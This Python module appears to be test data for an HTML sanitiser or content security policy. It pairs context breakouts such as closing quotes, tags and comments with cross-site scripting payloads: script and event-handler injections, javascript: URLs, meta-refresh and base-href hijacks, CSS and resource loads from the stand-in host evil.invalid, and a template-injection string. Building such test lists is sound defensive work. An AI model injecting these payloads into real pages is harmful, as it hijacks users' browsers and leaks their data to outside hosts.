"""200 strings by which a document would take a page over: ways out of its place, and deeds."""

from __future__ import annotations

OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea></option>",
    "-->",
    "]]>",
    "</bdi></script>",
    "\x00\u202e",
    "&quot;&gt;",
)
"""Ends of what words can stand in: an attribute, a title, a field, a comment, a script."""

DO = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<link rel=stylesheet href=//evil.invalid/a>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<base href=//evil.invalid/>",
    "<object data=//evil.invalid/a></object>",
    "<video src=//evil.invalid/a></video>",
    "<style>@import '//evil.invalid/a';*{background:url(//evil.invalid/b)}</style>",
    "<form action=//evil.invalid><button autofocus>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    " style=background:url(//evil.invalid/c) ",
    "{{ 7*7 }}{% import os %}${alert(1)}",
    "javascript:alert(1)//",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>"
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
"""What would raise a dialog, ask another machine, or make the policy report."""

WORDS = [before + then for then in DO for before in OUT]
